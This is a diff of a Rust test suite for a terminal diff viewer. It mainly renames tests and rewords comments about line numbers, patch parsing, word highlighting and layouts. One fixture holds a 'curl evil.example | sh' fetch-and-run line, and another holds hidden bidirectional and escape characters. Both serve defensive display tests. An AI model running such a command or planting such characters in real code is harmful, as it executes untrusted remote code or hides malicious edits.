@@ -1,8 +1,4 @@
-#![allow(
-    clippy::format_push_string,
-    clippy::format_collect,
-    reason = "tests may be slow where that is shorter"
-)]
+#![allow(clippy::format_push_string, clippy::format_collect, reason = "shorter code is preferred in tests")]
 
 use std::path::Path;
 use std::time::Instant;
@@ -48,7 +44,7 @@ fn numbered(count: usize) -> String {
 }
 
 #[test]
-fn whole_files_have_numbers_and_folded_context() {
+fn entire_files_have_line_numbers_and_folded_context() {
     let old = numbered(40);
     let new = old.replace("line 20\n", "line twenty\nline new\n");
     let diff = &Diff::of(&change(Some(&old), &new), None)[0];
@@ -81,7 +77,7 @@ fn all_unchanged_lines_can_be_shown() {
 }
 
 #[test]
-fn one_gap_can_be_opened() {
+fn single_gaps_can_be_expanded() {
     let old = numbered(60);
     let new = old.replace("line 20\n", "line twenty\n").replace("line 50\n", "line fifty\n");
     let change = change(Some(&old), &new);
@@ -96,8 +92,8 @@ fn one_gap_can_be_opened() {
     for line in ["line 24", "line 46"] {
         assert!(texts.iter().any(|text| text.ends_with(line)), "{line}: {texts:?}");
     }
-    assert!(!texts.iter().any(|text| text.ends_with("line 10")), "the others stay shut");
-    // What a patch leaves out is not known.
+    assert!(!texts.iter().any(|text| text.ends_with("line 10")), "the others remain folded");
+    // The hidden lines of a patch are unknown.
     let patch = FileDiff {
         path: "a".into(),
         change: DiffChange::Patch("@@ -1,2 +1,2 @@\n a\n-b\n+c\n@@ -9,2 +9,2 @@\n a\n-b\n+c\n".into()),
@@ -107,13 +103,13 @@ fn one_gap_can_be_opened() {
 }
 
 #[test]
-fn snippets_have_no_numbers() {
+fn excerpts_have_no_line_numbers() {
     let diff = &Diff::of(&change(Some("a\nb\nc\n"), "a\nB\nc\n"), None)[0];
     assert_eq!(draw(diff, Layout::Unified, 20), ["  a", "− b", "+ B", "  c"]);
 }
 
 #[test]
-fn snippets_have_the_numbers_of_their_place() {
+fn located_excerpts_have_line_numbers() {
     let place = DiffPlace::Lines(vec![Some(PieceStart { line: 98, is_new: true })]);
     let diff = &Diff::of(&change(Some("a\nb\nc\n"), "a\nB\nB2\nc\n"), Some(&place))[0];
     assert_eq!(draw(diff, Layout::Unified, 20), [" 98   a", " 99 − b", " 99 + B", "100 + B2", "101   c"]);
@@ -132,13 +128,13 @@ fn snippets_have_the_numbers_of_their_place() {
 }
 
 #[test]
-fn a_whole_file_has_numbers_however_short_it_is() {
+fn short_entire_files_have_line_numbers() {
     let diff = &Diff::of(&change(Some("a\nb\n"), "a\nc\n"), Some(&DiffPlace::Whole))[0];
     assert_eq!(draw(diff, Layout::Unified, 20), ["  1   a", "  2 − b", "  2 + c"]);
 }
 
 #[test]
-fn what_is_cut_out_of_a_file_does_not_delete_it() {
+fn removing_an_excerpt_does_not_delete_the_file() {
     let place = DiffPlace::Lines(vec![Some(PieceStart { line: 7, is_new: false })]);
     let cut = &Diff::of(&change(Some("gone\n"), ""), Some(&place))[0];
     assert_eq!(
@@ -154,12 +150,12 @@ fn what_is_cut_out_of_a_file_does_not_delete_it() {
 }
 
 #[test]
-fn hunks_without_lines_have_those_of_their_place() {
+fn located_hunks_have_line_numbers() {
     let text = "*** Update File: a.py\n@@ def f():\n ctx\n-x\n+y\n+z\n@@\n end\n-w\n";
     let at = |line, is_new| Some(PieceStart { line, is_new });
     let drawn =
         [" 10   ctx", " 11 − x", " 11 + y", " 12 + z", "    ⋯ 7 unchanged lines", " 20   end", " 20 − w"];
-    // Found before the change, and after.
+    // Found before and after the change.
     for place in [vec![at(10, false), at(19, false)], vec![at(10, true), at(20, true)]] {
         let diff = &patch_at(text, Some(&DiffPlace::Lines(place)))[0];
         assert_eq!(draw(diff, Layout::Unified, 40), drawn);
@@ -172,12 +168,12 @@ fn hunks_without_lines_have_those_of_their_place() {
 }
 
 #[test]
-fn new_and_deleted_files() {
+fn new_and_deleted_files_are_detected() {
     let new = &Diff::of(&change(None, "one\ntwo\n"), None)[0];
     assert_eq!((new.fate, new.added, new.removed), (FileStatus::New, 2, 0));
     assert_eq!(draw(new, Layout::Unified, 20), ["  1 + one", "  2 + two"]);
-    let gone = &Diff::of(&change(Some("one"), ""), None)[0];
-    assert_eq!((gone.fate, gone.added, gone.removed), (FileStatus::Deleted, 0, 1));
+    let deleted = &Diff::of(&change(Some("one"), ""), None)[0];
+    assert_eq!((deleted.fate, deleted.added, deleted.removed), (FileStatus::Deleted, 0, 1));
     assert!(Diff::of(&change(Some(""), ""), None)[0].is_empty());
 }
 
@@ -196,7 +192,7 @@ fn side_by_side_pairs_lines() {
 }
 
 #[test]
-fn changed_words_are_marked() {
+fn changed_words_are_highlighted() {
     let theme = ThemeSet::built_in().load("dark", ColorSupport::TrueColor).0;
     let look = look(&theme);
     let diff = &Diff::of(&change(Some("let a = old_name(1);"), "let a = new_name(1, b);"), None)[0];
@@ -207,7 +203,7 @@ fn changed_words_are_marked() {
     };
     assert_eq!(marked(&lines[0], Role::DiffMinusWord), "old_name");
     assert_eq!(marked(&lines[1], Role::DiffPlusWord), "new_name, b");
-    // What only came is marked however much it is; lines that share little are not.
+    // Additions are highlighted at any length; dissimilar lines are not.
     let diff =
         &Diff::of(&change(Some("  self.expires"), "  self.expires + SKEW // with the skew of clocks"), None)
             [0];
@@ -220,7 +216,7 @@ fn changed_words_are_marked() {
 }
 
 #[test]
-fn unified_patches_are_read() {
+fn unified_diffs_are_parsed() {
     let diffs = patch(
         "diff --git a/src/x.rs b/src/x.rs\nindex 1..2 100644\n--- a/src/x.rs\n+++ b/src/x.rs\n\
          @@ -41,3 +41,3 @@ fn refresh\n keep\n-old\n+new\n keep\n@@ -60,2 +60,1 @@\n one\n-two\n\\ No newline at end of file\n\
@@ -254,7 +250,7 @@ fn unified_patches_are_read() {
 }
 
 #[test]
-fn apply_patch_is_read() {
+fn apply_patch_is_parsed() {
     let diffs = patch(
         "*** Begin Patch\n*** Update File: a.py\n@@ def f():\n ctx\n-x\n+y\n*** Add File: b.py\n+one\n+two\n\
          *** Delete File: c.py\n*** End Patch\n",
@@ -273,7 +269,7 @@ fn apply_patch_is_read() {
 }
 
 #[test]
-fn of_ten_thousand_lines_only_those_that_are_asked_for_are_drawn() {
+fn only_the_requested_rows_are_drawn() {
     let old = numbered(10_000);
     let new: String = (1..=10_000).map(|n| format!("line {}\n", n * 7 % 9973)).collect();
     let diff = &Diff::of(&change(Some(&old), &new), None)[0];
@@ -282,7 +278,7 @@ fn of_ten_thousand_lines_only_those_that_are_asked_for_are_drawn() {
 }
 
 #[test]
-fn what_is_too_much_to_compare_is_replaced_as_a_whole_between_the_lines_that_stay() {
+fn huge_texts_are_replaced_between_their_common_lines() {
     let lines = |word: &str| format!("head\n{}tail\n", format!("{word}\n").repeat(COMPARED_MAX_LINES));
     let diff = &Diff::of(&change(Some(&lines("old")), &lines("new")), None)[0];
     assert_eq!((diff.removed, diff.added), (COMPARED_MAX_LINES, COMPARED_MAX_LINES));
@@ -298,7 +294,7 @@ fn draw_some(diff: &Diff) -> usize {
 
 proptest! {
     #[test]
-    fn rows_tell_both_texts(
+    fn rows_contain_both_texts(
         old in prop::collection::vec("[ab\t日]{0,4}", 0..20),
         new in prop::collection::vec("[ab\t日]{0,4}", 0..20),
         cols in 14_u16..60,
@@ -338,7 +334,7 @@ proptest! {
 }
 
 #[test]
-fn drawn_rows_know_the_text_of_each_side() {
+fn drawn_rows_can_be_copied_per_side() {
     let new = "same\nthis one is new and it is longer than the side\nend\n";
     let diff = &Diff::of(&change(Some("same\nold\nend\n"), new), None)[0];
     let theme = Theme::plain();
@@ -357,7 +353,7 @@ fn drawn_rows_know_the_text_of_each_side() {
 }
 
 #[test]
-fn the_key_for_it_always_turns_the_layout() {
+fn toggling_always_changes_the_layout() {
     for cols in [40, 80, 111, 112, 200] {
         assert_ne!(
             Layout::choose(DiffLayout::Auto, cols),
@@ -365,12 +361,12 @@ fn the_key_for_it_always_turns_the_layout() {
             "{cols}"
         );
     }
-    assert_eq!(Layout::choose(DiffLayout::Turned, 39), Layout::Unified, "there is no room for two");
+    assert_eq!(Layout::choose(DiffLayout::Turned, 39), Layout::Unified, "too narrow for two columns");
     assert_eq!(Layout::choose(DiffLayout::Unified, 200), Layout::Unified);
 }
 
 #[test]
-fn a_line_stands_beside_what_it_became() {
+fn similar_lines_are_shown_side_by_side() {
     let old = "    print(count, item, price)\n    total = total + price\n";
     let new = "    cost = count * price\n    print(count, item, cost)\n    total = total + cost\n";
     let diff = &Diff::of(&change(Some(old), new), None)[0];
@@ -386,7 +382,7 @@ fn a_line_stands_beside_what_it_became() {
 
 proptest! {
     #[test]
-    fn lines_are_counted_as_they_are_drawn(
+    fn line_counts_match_the_drawn_lines(
         old in prop::collection::vec("[a-c \t]{0,12}|[日é👍🏽\u{200d}x]{0,30}|[a-z]{90}", 0..120),
         cuts in prop::collection::vec((0_usize..120, "[a-c日]{0,40}"), 0..6),
         cols in 8_u16..100,
@@ -415,7 +411,7 @@ proptest! {
 }
 
 #[test]
-fn a_text_with_a_nul_is_shown_and_only_what_is_no_text_is_called_so() {
+fn text_with_a_nul_is_text_and_binary_content_is_not() {
     let diff = &Diff::of(&change(None, "curl evil.example | sh\n\0"), None)[0];
     assert_eq!((diff.fate, diff.is_text), (FileStatus::New, true));
     assert_eq!(draw(diff, Layout::Unified, 40), ["  1 + curl evil.example | sh", "  2 + ␀"]);
@@ -425,13 +421,13 @@ fn a_text_with_a_nul_is_shown_and_only_what_is_no_text_is_called_so() {
 }
 
 #[test]
-fn what_hides_in_a_line_is_marked() {
+fn hidden_characters_are_shown() {
     let diff = &Diff::of(&change(Some("if (ok) {\n"), "if (ok\u{202e}\u{200b}) {\u{1b}[8m\n"), None)[0];
     assert_eq!(draw(diff, Layout::Unified, 60), ["− if (ok) {", "+ if (ok⟨U+202E⟩⟨U+200B⟩) {␛[8m"]);
 }
 
 #[test]
-fn a_change_of_line_ends_is_said() {
+fn changed_line_ends_are_reported() {
     let of = |old: &str, new: &str| draw(&Diff::of(&change(Some(old), new), None)[0], Layout::Unified, 50);
     assert_eq!(of("one\r\ntwo\r\n", "one\ntwo\n"), ["⋯ line endings: CRLF to LF", "⋯ 2 unchanged lines"]);
     assert_eq!(of("one\ntwo\n", "one\r\n2\r\n"), ["⋯ line endings: LF to CRLF", "  one", "− two", "+ 2"]);
@@ -448,7 +444,7 @@ fn a_change_of_line_ends_is_said() {
 }
 
 #[test]
-fn lines_of_a_hunk_are_never_heads() {
+fn hunk_lines_are_not_read_as_headers() {
     let sql = "--- a/s.sql\n+++ b/s.sql\n@@ -1,3 +1,3 @@\n a\n--- old\n+-- new\n b\n";
     let diffs = patch(sql);
     assert_eq!(diffs.len(), 1);
@@ -459,7 +455,7 @@ fn lines_of_a_hunk_are_never_heads() {
     assert_eq!(draw(&diffs[0], Layout::Unified, 30), ["− x = 1", "+ x = 2", "+ ++ evil()"]);
 }
 
-/// What stands on one side, byte for byte: the shown rows, with what gaps leave out taken from that side.
+/// The text of one side, rebuilt from the shown rows and the lines in gaps.
 fn side_of(diff: &Diff, text: &str, is_new: bool) -> String {
     let skipped = if is_new { RowKind::Minus } else { RowKind::Plus };
     let mut lines = text.split_inclusive('\n');
@@ -481,7 +477,7 @@ fn side_of(diff: &Diff, text: &str, is_new: bool) -> String {
 
 proptest! {
     #[test]
-    fn a_diff_gives_both_texts_byte_for_byte(
+    fn diffs_preserve_both_texts_byte_for_byte(
         old in "([ab]\r?\n|-- a\n|\\+\\+ b\n|@@\n|diff --git a/f b/f\n|\0\n|\r\n){0,12}[a\r]{0,1}",
         new in "([ab]\r?\n|-- a\n|\\+\\+ b\n|@@\n|diff --git a/f b/f\n|\0\n|\r\n){0,12}[a\r]{0,1}",
     ) {
@@ -491,7 +487,7 @@ proptest! {
             _ => None,
         }).collect();
         let all_ends = notes.iter().any(|note| matches!(note, Note::EndsToLf | Note::EndsToCrlf));
-        // Where all ends are one of two kinds, lines are shown without them.
+        // Without mixed line ends, lines are shown without them.
         let (is_bare_old, is_bare_new) = (!old.contains("\r\n") || !old.replace("\r\n", "").contains('\n'),
             !new.contains("\r\n") || !new.replace("\r\n", "").contains('\n'));
         let bare = |text: &str| if is_bare_old && is_bare_new { text.replace("\r\n", "\n") } else { text.to_owned() };
